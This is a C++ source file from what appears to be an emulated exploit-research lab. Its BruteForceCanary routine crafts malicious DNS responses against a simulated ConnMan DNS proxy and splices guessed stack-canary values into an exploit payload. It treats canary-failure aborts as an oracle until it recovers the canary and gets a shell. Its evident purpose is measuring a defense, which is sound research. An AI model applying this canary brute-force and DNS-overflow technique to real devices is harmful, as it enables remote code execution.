#include "src/defense/canary.hpp"

#include <cmath>
#include <string>

#include "src/connman/dnsproxy.hpp"
#include "src/connman/frame.hpp"
#include "src/defense/mitigation.hpp"
#include "src/dns/craft.hpp"
#include "src/dns/record.hpp"
#include "src/exploit/generator.hpp"
#include "src/exploit/profile.hpp"
#include "src/obs/obs.hpp"

namespace connlab::defense {

double StackCanary::ExpectedBruteForceAttempts() const noexcept {
  return std::ldexp(1.0, entropy_bits_ - 1);
}

namespace {

/// The guess spliced into the non-canary exploit image: everything below
/// the guard slot stays put, everything at or above it shifts by the 4-byte
/// pad the protector inserts.
util::Result<dns::PayloadImage> SpliceGuess(const dns::PayloadImage& base,
                                            std::uint32_t canary_offset,
                                            std::uint32_t guess) {
  dns::PayloadImage image(base.size() + 4, base.filler());
  for (std::size_t off = 0; off < base.size(); ++off) {
    if (!base.required(off)) continue;
    const std::uint8_t byte = base.at(off);
    const std::size_t dst = off < canary_offset ? off : off + 4;
    CONNLAB_RETURN_IF_ERROR(image.SetBytes(dst, util::ByteSpan(&byte, 1)));
  }
  CONNLAB_RETURN_IF_ERROR(image.SetWord(canary_offset, guess));
  return image;
}

}  // namespace

util::Result<CanaryBruteForceReport> BruteForceCanary(
    isa::Arch arch, int entropy_bits, std::uint64_t target_seed,
    std::uint64_t max_attempts) {
  OBS_TRACE_SPAN(brute_span, "defense", "BruteForceCanary");
  if (entropy_bits < 1 || entropy_bits > 24) {
    return util::InvalidArgument(
        "brute force is only tractable against narrowed canaries "
        "(1..24 bits)");
  }
  if (max_attempts == 0) {
    return util::InvalidArgument("max_attempts must be positive");
  }

  // The attacker's lab: the W^X build *without* the canary — the exploit is
  // crafted against the unpadded frame and the guess supplies the pad.
  const loader::ProtectionConfig lab_prot = loader::ProtectionConfig::WxOnly();
  CONNLAB_ASSIGN_OR_RETURN(auto lab, loader::Boot(arch, lab_prot, 100));
  connman::DnsProxy lab_proxy(*lab, connman::Version::k134);
  exploit::ProfileExtractor extractor(*lab, lab_proxy);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, extractor.Extract());
  exploit::ExploitGenerator generator(profile);
  const exploit::Technique technique = exploit::TechniqueFor(arch, lab_prot);
  CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage base,
                           generator.BuildImage(technique));

  // The victim: same protection level plus the narrowed guard. One boot,
  // one guard value — the brute force models a device that respawns the
  // worker without re-randomising (fork-server style).
  loader::ProtectionConfig victim_prot = lab_prot;
  DefensePolicy::Canary(entropy_bits).Configure(victim_prot);
  CONNLAB_ASSIGN_OR_RETURN(auto victim,
                           loader::Boot(arch, victim_prot, target_seed));
  connman::DnsProxy proxy(*victim, connman::Version::k134);
  const std::uint32_t canary_offset =
      connman::FrameFor(victim_prot, arch).canary_offset();

  CanaryBruteForceReport report;
  const std::uint64_t space = 1ull << entropy_bits;
  for (std::uint64_t g = 0; g < space && report.attempts < max_attempts; ++g) {
    // Mirrors the boot-time draw: guard = 0x01010101 + (bits-wide value).
    const std::uint32_t guess =
        0x01010101u + static_cast<std::uint32_t>(g);
    CONNLAB_ASSIGN_OR_RETURN(dns::PayloadImage image,
                             SpliceGuess(base, canary_offset, guess));
    CONNLAB_ASSIGN_OR_RETURN(dns::LabelSeq labels, dns::CutIntoLabels(image));

    const auto id = static_cast<std::uint16_t>(0x4000u + (g & 0x3FFFu));
    dns::Message query = dns::Message::Query(id, "target.device.lan");
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd, proxy.AcceptClientQuery(qwire));
    (void)fwd;
    dns::Message evil = dns::MaliciousAResponse(query, std::move(labels));
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes rwire, dns::Encode(evil));

    ++report.attempts;
    const connman::ProxyOutcome outcome = proxy.HandleServerResponse(rwire);
    if (outcome.kind == connman::ProxyOutcome::Kind::kAbort) {
      ++report.aborts;  // wrong guess: __stack_chk_fail is the oracle
      continue;
    }
    report.recovered = true;
    report.canary = guess;
    report.shell = outcome.kind == connman::ProxyOutcome::Kind::kShell;
    break;
  }
  return report;
}

}  // namespace connlab::defense
